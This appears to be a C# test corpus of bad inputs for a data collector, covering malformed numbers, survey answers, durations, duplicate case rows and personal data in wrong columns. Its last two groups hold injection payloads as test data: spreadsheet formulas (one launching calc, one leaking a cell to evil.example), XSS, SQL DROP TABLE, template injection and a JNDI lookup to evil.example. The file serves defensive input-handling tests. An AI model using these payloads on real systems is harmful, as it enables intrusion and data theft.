namespace Carmen.Tests.Collector.BadInput;

/// <summary>What can be wrong with single cells: numbers, answers, spans of time, ids, words, what people and attackers type.</summary>
internal static partial class Corpus
{
    private const string Answered = "answer-outside-scale";

    private static BadClass[] ContentClasses =>
        [
            new(
                "numbers",
                "costs",
                Amount("1e400", Read(2, 1, ("number", 1))),
                Amount("-1e400", Read(2, 1, ("number", 1))),
                Amount("NaN", Read(2, 1, ("number", 1))),
                Amount("Infinity", Read(2, 1, ("number", 1))),
                Amount("∞", Read(2, 1, ("number", 1))),
                Amount("0x1F", Read(2, 1, ("number", 1))),
                Amount("1e3", Read(2, 2)),
                Amount("007", Read(2, 2)),
                Amount("+5", Read(2, 2)),
                Amount("--5", Read(2, 1, ("number", 1))),
                Amount("−5", Read(2, 2)),
                Amount("(5.00)", Read(2, 2)),
                Amount("1.2.3", Read(2, 1, ("number", 1))),
                Amount("1,234,567.89", Read(2, 2)),
                Amount("1.234.567,89", Read(2, 2)),
                Amount("1 234,50", Read(2, 2)),
                Amount("1'234.50", Read(2, 2)),
                Amount("12,34,567", Read(2, 1, ("number", 1))),
                Amount("١٢٣", Read(2, 1, ("number", 1))),
                Amount("１２３", Read(2, 1, ("number", 1))),
                Amount("½", Read(2, 1, ("number", 1))),
                Amount("€ 5", Read(2, 2)),
                Amount("5 apples", Read(2, 1, ("number", 1))),
                Amount(new string('9', 400), Read(2, 1, ("number", 1))),
                Amount(":", Read(2, 1, ("not-available", 1)))
            ),
            new(
                "answers",
                "survey",
                Answer("0", Read(3, 3, (Answered, 1))),
                Answer("6", Read(3, 3, (Answered, 1))),
                Answer("3.5", Read(3, 3, (Answered, 1))),
                Answer("-1", Read(3, 3, (Answered, 1))),
                Answer("99", Read(3, 3, (Answered, 1))),
                Answer("1e400", Read(3, 3, (Answered, 1))),
                Answer("NaN", Read(3, 3)),
                Answer("good, I think", Read(3, 3, (Answered, 1))),
                Answer("don't know", Read(3, 3)),
                Answer("DON’T KNOW", Read(3, 3)),
                Answer("-99", Read(3, 3)),
                Answer("−99.0", Read(3, 3)),
                Answer("", Read(3, 3)),
                Answer("5.0", Read(3, 3)),
                Answer("5,0", Read(3, 3)),
                Answer("very  SATISFIED", Read(3, 3)),
                Answer("Molto soddisfatto/a", Read(3, 3)),
                Answer("5 - Very satisfied", Read(3, 3)),
                Answer("2 - Very satisfied", Read(3, 3, (Answered, 1))),
                Answer("４", Read(3, 3)),
                Answer("٤", Read(3, 3, (Answered, 1))),
                Answer("4 5", Read(3, 3, (Answered, 1))),
                Answer("⭐⭐⭐⭐", Read(3, 3, (Answered, 1)))
            ),
            new(
                "spans of time",
                "calls",
                Wait("-5", Read(2, 2, ("negative-duration", 1))),
                Wait("−00:05", Read(2, 2, ("negative-duration", 1))),
                Wait("25:00:00", Read(2, 2, ("duration-over-a-day", 1))),
                Wait("86401", Read(2, 2, ("duration-over-a-day", 1))),
                Wait("86400", Read(2, 2)),
                Wait("0", Read(2, 2)),
                Wait("00:35", Read(2, 2)),
                Wait("1:02:03", Read(2, 2)),
                Wait("12.4", Read(2, 2)),
                Wait("NaN", Read(2, 1, ("duration", 1))),
                Wait("1:61", Read(2, 1, ("duration", 1))),
                Wait("1:2:3:4", Read(2, 1, ("duration", 1))),
                Wait("five minutes", Read(2, 1, ("duration", 1))),
                Wait("1e3", Read(2, 1, ("duration", 1))),
                Wait("99999999999", Read(2, 1, ("duration", 1))),
                Wait("n/a", Read(2, 2)),
                Wait(":", Read(2, 2))
            ),
            new(
                "numbers of cases",
                "crm",
                new("a row twice", Requests(First, First), Read(2, 1) with { Duplicates = 1 }),
                new("a row three times", Requests(First, Second, First, First), Read(4, 2) with { Duplicates = 2 }),
                new(
                    "one number for two states",
                    Requests(First, "1,Rubbish,Desk,2026-03-01T08:00:01,2026-03-05T09:00:00,closed"),
                    Read(2, 2)
                ),
                new("one number for two cases", Requests(First, "1,Rubbish,Desk,2026-04-01T08:00:01,,open"), Read(2, 2)),
                new("a row that another file has", Requests(First, Second), Read(2, 1) with { Duplicates = 1 })
                {
                    Before = Requests(First),
                },
                new(
                    "a later state than another file has",
                    Requests("1,Rubbish,Desk,2026-03-01T08:00:01,2026-03-05T09:00:00,closed"),
                    Read(1, 1)
                )
                {
                    Before = Requests(First),
                },
                new("the same rows with other line ends", Requests().ReplaceLineEndings("\r\n"), Read(2, 0) with { Duplicates = 2 })
                {
                    Before = Requests(),
                },
                new("the same rows with other separators", Requests().Replace(',', ';'), Read(2, 0) with { Duplicates = 2 })
                {
                    Before = Requests(),
                },
                new(
                    "the same rows in UTF-16",
                    System.Text.Encoding.Unicode.GetBytes("\uFEFF" + Requests()),
                    Read(2, 0) with
                    {
                        Duplicates = 2,
                    }
                )
                {
                    Before = Requests(),
                },
                new("leading zeros", Requests(First, "01,Rubbish,Desk,2026-03-01T08:00:01,,open"), Read(2, 2)),
                new("blanks around", Requests(First, " 1 ,Rubbish,Desk,2026-03-01T08:00:01,,open"), Read(2, 1) with { Duplicates = 1 }),
                new(
                    "none, and the same row twice",
                    Requests(",Rubbish,Desk,2026-03-01T08:00:01,,open", ",Rubbish,Desk,2026-03-01T08:00:01,,open"),
                    Read(2, 2)
                ),
                new(
                    "none, and in another file too",
                    Requests(",Rubbish,Desk,2026-03-01T08:00:01,,open", Second),
                    Read(2, 1) with
                    {
                        Duplicates = 1,
                    }
                )
                {
                    Before = Requests(",Rubbish,Desk,2026-03-01T08:00:01,,open"),
                },
                new(
                    "a number of ten thousand digits",
                    Requests($"{new string('7', 10_000)},Rubbish,Desk,2026-03-01T08:00:01,,open"),
                    Read(1, 1)
                )
            ),
            new(
                "words that no mapping knows",
                "crm",
                new("a service", Typed("Trees"), Read(2, 2)) { Unmapped = "Trees" },
                new("no service", Typed(""), Read(2, 2)),
                new("a channel", Requests("1,Rubbish,Pigeon,2026-03-01T08:00:01,,open"), Read(1, 1)) { Unmapped = "Pigeon" },
                new("a status", Requests("1,Rubbish,Desk,2026-03-01T08:00:01,,bananas"), Read(1, 1)) { Unmapped = "bananas" },
                new(
                    "another service in every row",
                    Requests([
                        .. Enumerable
                            .Range(1, 2000)
                            .Select(row =>
                                $"{row},Type {new string((char)('A' + (row % 26)), 1 + (row / 26))},Desk,2026-03-01T08:00:01,,open"
                            ),
                    ]),
                    Read(2000, 2000)
                ),
                new(
                    "closed before it was opened",
                    Requests("1,Rubbish,Desk,2026-03-02T08:00:01,2026-03-01T08:00:01,closed"),
                    Read(1, 1, ("closed-before-opened", 1))
                ),
                new(
                    "closed without a time",
                    Requests("1,Rubbish,Desk,2026-03-02T08:00:01,,closed"),
                    Read(1, 1, ("closed-without-time", 1))
                ),
                new(
                    "open with a time of closing",
                    Requests("1,Rubbish,Desk,2026-03-02T08:00:01,2026-03-03T08:00:01,open"),
                    Read(1, 1, ("open-with-closing-time", 1))
                )
            ),
            new(
                "a person's data in the wrong column",
                "crm",
                new("an e-mail address as the service", Typed("anna.rossi@example.org"), Read(2, 2)) { Hides = "anna.rossi" },
                new("a telephone number as the service", Typed("+39 0574 123456"), Read(2, 2)) { Hides = "0574 123456" },
                new("a fiscal code as the service", Typed("RSSNNA80A41G999K"), Read(2, 2)) { Hides = "RSSNNA80A41G999K" },
                new("an IBAN as the service", Typed("IT60X0542811101000000123456"), Read(2, 2)) { Hides = "0542811101000000" },
                new("an IP address as the channel", Requests("1,Rubbish,192.0.2.77,2026-03-01T08:00:01,,open"), Read(1, 1))
                {
                    Hides = "192.0.2.77",
                },
                new("an e-mail address as the status", Requests("1,Rubbish,Desk,2026-03-01T08:00:01,,anna.rossi@example.org"), Read(1, 1))
                {
                    Hides = "anna.rossi",
                },
                new("an e-mail address as the date", Requests("1,Rubbish,Desk,anna.rossi@example.org,,open"), Read(1, 0, ("date", 1)))
                {
                    Hides = "anna.rossi",
                },
                new(
                    "an e-mail address as the number",
                    Requests("anna.rossi@example.org,Rubbish,Desk,2026-03-01T08:00:01,,open"),
                    Read(1, 1)
                )
                {
                    Hides = "anna.rossi",
                },
                new("an e-mail address as a heading", $"{Heading},anna.rossi@example.org\n{First},x\n", Read(1, 1))
                {
                    Hides = "anna.rossi",
                },
                new(
                    "a row with an address and too many cells",
                    Requests([.. Ten, "11,anna.rossi@example.org,x,y,2026-03-11T08:00:01,,open"]),
                    Read(11, 10, ("columns", 1))
                )
                {
                    Hides = "anna.rossi",
                }
            ),
            new(
                "formulas of spreadsheets",
                "crm",
                new("=", Typed("=1+1"), Read(2, 2)) { Unmapped = "=1+1" },
                new("+", Typed("+1+1"), Read(2, 2)),
                new("-", Typed("-1+1"), Read(2, 2)),
                new("@", Typed("@SUM(A1:A9)"), Read(2, 2)),
                new("behind a tab", Typed("\t=1+1"), Read(2, 2)),
                new("behind a line end in quotes", Typed("\"\r=1+1\""), Read(2, 2)),
                new("full-width", Typed("＝1+1"), Read(2, 2)),
                new("that starts a program", Typed("=cmd|' /C calc'!A0"), Read(2, 2)),
                new("with a link", Typed("\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Rubbish\"\")\""), Read(2, 2)),
                new("in place of a date", Requests("1,Rubbish,Desk,=NOW(),,open"), Read(1, 0, ("date", 1))),
                new("in place of a number", Requests("=ROW(),Rubbish,Desk,2026-03-01T08:00:01,,open"), Read(1, 1))
            ),
            new(
                "cells that programs could take for commands",
                "crm",
                new("a script", Typed("<script>alert(1)</script>"), Read(2, 2)),
                new("an image with a handler", Typed("\"<img src=x onerror=\"\"alert(1)\"\">\""), Read(2, 2)),
                new("SVG", Typed("<svg onload=alert(1)>"), Read(2, 2)),
                new("a Markdown link", Typed("[Rubbish](javascript:alert(1))"), Read(2, 2)),
                new("a template", Typed("{{7*7}}${7*7}#{7*7}"), Read(2, 2)),
                new("SQL", Typed("'; DROP TABLE \"\"Requests\"\"; --"), Read(2, 2)),
                new("a format", Typed("%s%n%x{0}"), Read(2, 2)),
                new("a directory lookup", Typed("${jndi:ldap://evil.example/a}"), Read(2, 2)),
                new("right to left", Typed("\u202Ehsibbur"), Read(2, 2)),
                new("zero-width characters", Typed("Rub\u200B\u200Dbish\uFEFF"), Read(2, 2)),
                new("emoji", Typed("👩‍👩‍👧‍👦🇪🇺"), Read(2, 2)),
                new("a thousand accents on one letter", Typed("R" + string.Concat(Enumerable.Repeat("\u0301", 1000))), Read(2, 2)),
                new("a cell of 64 KiB", Typed(new string('x', 1 << 16)), Read(2, 2)),
                new("Turkish letters", Typed("RUBBİSH"), Read(2, 2))
            ),
        ];

    /// <summary>Two costs: one in order, one of this amount.</summary>
    private static BadFile Amount(string amount, Receipt expected) =>
        new(Short(amount), $"Month\tAmount\n2026-01\t10.50\n2026-02\t{amount}\n", expected);

    /// <summary>Three responses: two in order, one with this answer.</summary>
    private static BadFile Answer(string answer, Receipt expected) =>
        new(
            Short(answer),
            $"id\tsubmitted\tQ1\n1\t2026-04-01 10:00:01\t4\n2\t2026-04-01 10:00:02\t5\n3\t2026-04-01 10:00:03\t{answer}\n",
            expected
        );

    /// <summary>Two calls: one in order, one with this wait.</summary>
    private static BadFile Wait(string wait, Receipt expected) =>
        new(Short(wait), $"Start\tWait\n2026-04-01 10:00:01\t12\n2026-04-01 10:00:02\t{wait}\n", expected);

    private static string Short(string text) =>
        text.Length == 0 ? "blank"
        : text.Length > 30 ? $"{text[..30]}…"
        : text;
}
